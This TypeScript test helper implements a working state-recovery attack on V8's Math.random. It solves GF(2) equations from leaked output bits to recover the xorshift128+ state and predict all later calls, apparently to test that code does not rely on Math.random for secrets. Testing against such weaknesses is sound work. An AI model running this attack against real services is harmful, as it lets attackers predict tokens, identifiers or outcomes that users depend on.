/**
 * What an attacker knows about V8's Math.random (src/numbers/math-random.cc and
 * src/base/utils/random-number-generator.h in V8 11, the engine of Node 20): xorshift128+ with a
 * 128-bit state (s0, s1); each output is ToDouble(s0) = (s0 >> 12) / 2^52 after one step, so it
 * shows the top 52 bits of s0; the engine fills a cache of 64 outputs at a time and hands them
 * out last first. Every state bit is a GF(2)-linear function of the 128 bits of the state at any
 * earlier point, so any known bits of any outputs are linear equations in those 128 unknowns,
 * and ~128 independent ones give the whole state back (Gaussian elimination): from then on every
 * output is known. Test-only code: the attack of test/adversary-randomness.test.ts.
 */

const MASK64 = (1n << 64n) - 1n;

/** The generator itself, for checking a recovered state against what comes next. */
export class XorShift128Plus {
  constructor(
    public s0: bigint,
    public s1: bigint,
  ) {}

  step(): void {
    let s1 = this.s0;
    const s0 = this.s1;
    this.s0 = s0;
    s1 ^= (s1 << 23n) & MASK64;
    s1 ^= s1 >> 17n;
    s1 ^= s0;
    s1 ^= s0 >> 26n;
    this.s1 = s1;
  }

  /** The output of the current state: the 52 top bits of s0 as a double in [0, 1). */
  output(): number {
    return Number(this.s0 >> 12n) / 2 ** 52;
  }
}

/**
 * The state as linear forms: bit j of s0 (resp. s1) is the XOR of the unknowns whose bits are
 * set in `s0[j]` (resp. `s1[j]`); unknown i < 64 is bit i of the initial s0, i ≥ 64 bit i-64 of s1.
 */
class SymbolicState {
  s0: bigint[];
  s1: bigint[];
  constructor() {
    this.s0 = Array.from({ length: 64 }, (_, i) => 1n << BigInt(i));
    this.s1 = Array.from({ length: 64 }, (_, i) => 1n << BigInt(64 + i));
  }
  step(): void {
    const t = this.s0.slice();
    const s0 = this.s1;
    // t ^= t << 23; t ^= t >> 17; t ^= s0; t ^= s0 >> 26 (bit j of x << k is bit j-k of x)
    for (let j = 63; j >= 23; j--) t[j]! ^= t[j - 23]!;
    for (let j = 0; j + 17 < 64; j++) t[j]! ^= t[j + 17]!;
    for (let j = 0; j < 64; j++) t[j]! ^= s0[j]!;
    for (let j = 0; j + 26 < 64; j++) t[j]! ^= s0[j + 26]!;
    this.s0 = s0;
    this.s1 = t;
  }
}

/** Linear forms of the top `bits` bits (most significant first) of each of `n` outputs, in generation order. */
export function outputForms(n: number): bigint[][] {
  const st = new SymbolicState();
  const out: bigint[][] = [];
  for (let i = 0; i < n; i++) {
    st.step();
    out.push(Array.from({ length: 52 }, (_, k) => st.s0[63 - k]!));
  }
  return out;
}

export const V8_CACHE_SIZE = 64;

/**
 * Which generated output the k-th Math.random() call returns, when `consumed` values of the
 * current cache had already been handed out before call 0: the cache is filled in generation
 * order and read from its end.
 */
export function generatedIndexOfCall(k: number, consumed: number): number {
  const g = consumed + k;
  const block = Math.floor(g / V8_CACHE_SIZE);
  return block * V8_CACHE_SIZE + (V8_CACHE_SIZE - 1 - (g % V8_CACHE_SIZE));
}

/** One known bit: bit `bit` (0 = most significant) of the output of call `call` is `value`. */
export interface KnownBit {
  readonly call: number;
  readonly bit: number;
  readonly value: 0 | 1;
}

/**
 * The bits of u that every number in [lo, hi) shares, most significant first: what an
 * observer who learned "u is in [lo, hi)" knows for certain about the 52-bit mantissa.
 */
export function commonTopBits(lo: number, hi: number): (0 | 1)[] {
  if (!(lo >= 0 && hi <= 1 && lo < hi)) return [];
  const a = BigInt(Math.floor(lo * 2 ** 52));
  const b = BigInt(Math.min(2 ** 52 - 1, Math.ceil(hi * 2 ** 52) - 1));
  const out: (0 | 1)[] = [];
  for (let k = 51; k >= 0; k--) {
    const x = (a >> BigInt(k)) & 1n;
    if (x !== ((b >> BigInt(k)) & 1n)) break;
    out.push(Number(x) as 0 | 1);
  }
  return out;
}

/** Solves the GF(2) system; returns the 128-bit solution when it is consistent and of full rank. */
function solve(rows: { form: bigint; value: 0 | 1 }[]): bigint | null {
  const pivots = new Map<number, { form: bigint; value: number }>();
  for (const r of rows) {
    let f = r.form;
    let v: number = r.value;
    for (let i = 127; i >= 0 && f !== 0n; i--) {
      if (((f >> BigInt(i)) & 1n) === 0n) continue;
      const p = pivots.get(i);
      if (p) {
        f ^= p.form;
        v ^= p.value;
      } else {
        pivots.set(i, { form: f, value: v });
        f = 0n;
        v = -1;
      }
    }
    if (f === 0n && v === 1) return null; // 0 = 1: inconsistent
  }
  if (pivots.size < 128) return null;
  // back substitution, lowest pivot first
  let x = 0n;
  for (let i = 0; i < 128; i++) {
    const p = pivots.get(i)!;
    let v = p.value;
    const rest = p.form & ~(1n << BigInt(i));
    let m = rest & x;
    while (m !== 0n) {
      v ^= 1;
      m &= m - 1n;
    }
    if (v) x |= 1n << BigInt(i);
  }
  return x;
}

export type Predictor = (call: number) => number;

/**
 * The attack: for each possible position in V8's 64-value cache, solve for the state behind the
 * known bits; every consistent, fully determined solution is a candidate predictor of every
 * call (call index → value). Positions a few calls apart can explain sparse observations alike
 * (they differ only at cache boundaries), so there may be more than one: `explains` tells them
 * apart on further observations.
 */
export function recoverMathRandom(known: readonly KnownBit[]): Predictor[] {
  const maxCall = known.reduce((m, k) => Math.max(m, k.call), 0);
  const forms = outputForms(maxCall + 2 * V8_CACHE_SIZE);
  const found: Predictor[] = [];
  for (let consumed = 0; consumed < V8_CACHE_SIZE; consumed++) {
    const rows = known.map((k) => ({ form: forms[generatedIndexOfCall(k.call, consumed)]![k.bit]!, value: k.value }));
    const x = solve(rows);
    if (x === null) continue;
    const g = new XorShift128Plus(x & MASK64, x >> 64n);
    const outputs: number[] = [];
    found.push((call: number) => {
      const idx = generatedIndexOfCall(call, consumed);
      while (outputs.length <= idx) {
        g.step();
        outputs.push(g.output());
      }
      return outputs[idx]!;
    });
  }
  return found;
}

/** Does a predictor agree with every known bit? */
export function explains(p: Predictor, known: readonly KnownBit[]): boolean {
  return known.every((k) => {
    const m = BigInt(Math.floor(p(k.call) * 2 ** 52));
    return Number((m >> BigInt(51 - k.bit)) & 1n) === k.value;
  });
}
